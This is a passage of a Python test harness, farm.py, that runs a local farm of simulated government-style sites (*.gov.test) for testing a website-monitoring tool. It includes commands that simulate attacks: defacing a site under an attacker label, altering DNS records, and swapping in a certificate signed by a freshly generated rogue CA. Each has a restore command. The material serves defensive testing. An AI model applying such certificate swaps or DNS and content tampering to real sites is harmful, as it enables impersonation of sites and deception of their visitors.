    the server presents. The farm's own certificate is kept for cert_restore."""
    d = resolve_dir(dir)
    t = os.path.join(d, "tls")
    crt, key = os.path.join(t, "site.pem"), os.path.join(t, "site.key")
    if not os.path.exists(crt + ".orig"):
        shutil.copy2(crt, crt + ".orig")
        shutil.copy2(key, key + ".orig")

    def run(args):
        p = subprocess.run([OPENSSL] + args, capture_output=True, text=True)
        if p.returncode != 0:
            raise FarmError("openssl %s failed: %s" % (args[0], p.stderr.strip()))

    ca, cakey = os.path.join(t, "evil-ca.pem"), os.path.join(t, "evil-ca.key")
    run(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-keyout", cakey, "-out", ca, "-days", "3650", "-subj", "/O=%s/CN=%s" % (issuer, issuer),
         "-addext", "basicConstraints=critical,CA:TRUE",
         "-addext", "keyUsage=critical,keyCertSign,cRLSign"])
    csr, ext = os.path.join(t, "evil.csr"), os.path.join(t, "site.ext")
    newkey, newcrt = os.path.join(t, "evil.key"), os.path.join(t, "evil.pem")
    run(["req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-keyout", newkey, "-out", csr, "-subj", "/CN=*.gov.test"])
    run(["x509", "-req", "-in", csr, "-CA", ca, "-CAkey", cakey, "-CAcreateserial",
         "-out", newcrt, "-days", "90", "-sha256", "-extfile", ext])
    os.chmod(newkey, 0o600)
    os.replace(newkey, key)
    os.replace(newcrt, crt)
    _reload_nginx(d, _pem_der(crt))


def cert_restore(dir):
    d = resolve_dir(dir)
    t = os.path.join(d, "tls")
    crt, key = os.path.join(t, "site.pem"), os.path.join(t, "site.key")
    if not os.path.exists(crt + ".orig"):
        return
    os.replace(key + ".orig", key)
    os.replace(crt + ".orig", crt)
    _reload_nginx(d, _pem_der(crt))


# ---------------------------------------------------------------------------
# Command line

def main(argv=None):
    ap = argparse.ArgumentParser(prog="farm.py", description="Site farm for Parapet's website watch.")
    sub = ap.add_subparsers(dest="cmd", required=True, metavar="COMMAND")

    def cmd(name, **kw):
        p = sub.add_parser(name, **kw)
        p.add_argument("--dir", required=True, help="the farm's directory")
        return p

    p = cmd("start", help="generate the sites and start the servers")
    p.add_argument("--sites", type=int, required=True)
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--http-port", type=int, default=0)
    p.add_argument("--https-port", type=int, default=0)
    p.add_argument("--dns-port", type=int, default=0)
    p.add_argument("--slow-port", type=int, default=0)
    p.add_argument("--slow-interval", type=float, default=5.0, help="seconds between bytes of bad-slow")
    p.add_argument("--watch-pid", default="0",
                   help="stop the farm when this process exits ('parent': the caller of farm.py)")
    p.add_argument("--ttl", type=int, default=0, help="stop the farm after this many seconds")
    p.add_argument("--dns-ttl", type=int, default=0, help="TTL of the DNS answers (default 0)")
    p.add_argument("--access-log", action="store_true", help="nginx access log in D/logs/access.log")
    p.add_argument("--quiet", action="store_true", help="do not print farm.json")
    cmd("stop", help="stop everything (idempotent)")
    p = cmd("urls", help="print the sites' URLs")
    p.add_argument("--https", action="store_true")
    p.add_argument("--limit", type=int)
    p.add_argument("--bad", action="store_true", help="also the bad-* sites")
    p = cmd("deface", help="deface a site")
    p.add_argument("site")
    p.add_argument("--kind", required=True, choices=KINDS)
    p.add_argument("--lang", default="en", choices=["en", "fa"])
    p.add_argument("--by", default="Shadow Team")
    p.add_argument("--attacker", help="the attacker's host")
    p = cmd("restore", help="undo every deface of a site")
    p.add_argument("site")
    p = cmd("update", help="a benign change (news item, banner)")
    p.add_argument("site")
    p = cmd("thirdparty", help="add a third-party embed or tag (benign)")
    p.add_argument("site")
    p.add_argument("--kind", required=True, choices=THIRD_PARTY)
    p = cmd("churn", help="change a share of the sites: news, third-party additions, attacks")
    p.add_argument("--fraction", type=float, default=0.2, help="sites changed (default 0.2)")
    p.add_argument("--third", type=float, default=0.25, help="of those, with a third-party addition (0.25)")
    p.add_argument("--attack", type=float, default=0.01, help="of all sites, attacked (0.01)")
    p.add_argument("--round", type=int, default=1, help="which sites: the same round, the same sites")
    p = cmd("down", help="make a site unavailable")
    p.add_argument("site")
    p.add_argument("--mode", default="503", choices=DOWN_MODES)
    p = cmd("up", help="make a site available again")
    p.add_argument("site")
    p = cmd("dns-set", help="change a DNS record of a site")
    p.add_argument("site")
    p.add_argument("type", type=str.upper, choices=["A", "AAAA", "NS", "MX", "CAA"])
    p.add_argument("value", help="comma-separated values, or - for none")
    p = cmd("cert-swap", help="serve an attacker's certificate (another CA, another key)")
    p.add_argument("--issuer", default="Shadow Team CA")
    cmd("cert-restore", help="serve the farm's own certificate again")
    cmd("status", help="processes, down and defaced sites")
    p = cmd("dig", help="query the farm's DNS")
    p.add_argument("name")
    p.add_argument("type", nargs="?", default="A")
    p = sub.add_parser("_keeper")
    p.add_argument("--dir", required=True)
    a = ap.parse_args(argv)
    try:
        if a.cmd == "_keeper":
            return Keeper(resolve_dir(a.dir)).main()
        if a.cmd == "start":
            wp = os.getppid() if a.watch_pid == "parent" else int(a.watch_pid)
            farm = start(a.dir, a.sites, seed=a.seed, http_port=a.http_port, https_port=a.https_port,
                         dns_port=a.dns_port, slow_port=a.slow_port, watch_pid=wp, ttl=a.ttl,
                         slow_interval=a.slow_interval, access_log=a.access_log, dns_ttl=a.dns_ttl)
            if not a.quiet:
                print(json.dumps(farm, indent=1))
        elif a.cmd == "stop":
            for x in stop(a.dir):
                print("stopped", x)
        elif a.cmd == "urls":
            sys.stdout.write("".join(u + "\n" for u in urls(a.dir, a.https, a.limit, a.bad)))
        elif a.cmd == "deface":
            deface(a.dir, a.site, a.kind, lang=a.lang, by=a.by, attacker=a.attacker)
        elif a.cmd == "restore":
            restore(a.dir, a.site)
        elif a.cmd == "update":
            update(a.dir, a.site)
        elif a.cmd == "thirdparty":
            thirdparty(a.dir, a.site, a.kind)
        elif a.cmd == "churn":
            print(json.dumps(churn(a.dir, a.fraction, a.third, a.attack, a.round)))
        elif a.cmd == "down":
            down(a.dir, a.site, a.mode)
        elif a.cmd == "up":
            up(a.dir, a.site)
        elif a.cmd == "dns-set":
            dns_set(a.dir, a.site, a.type, a.value)
        elif a.cmd == "cert-swap":
            cert_swap(a.dir, a.issuer)
        elif a.cmd == "cert-restore":
            cert_restore(a.dir)
        elif a.cmd == "status":
            print(json.dumps(status(a.dir), indent=1))
        elif a.cmd == "dig":
            name = a.name.lower()
            if name.isdigit():
                name = site_name(int(name))
            elif "." not in name:
                name += "." + DOMAIN
            rc, ans = dns_query(resolve_dir(a.dir), name, a.type)
            print(rc)
            for x in ans:
                print(x)
    except FarmError as e:
        print("farm.py %s: %s" % (a.cmd, e), file=sys.stderr)
        return 1
    except (OSError, ValueError, KeyError) as e:
        print("farm.py %s: %s" % (a.cmd, e), file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
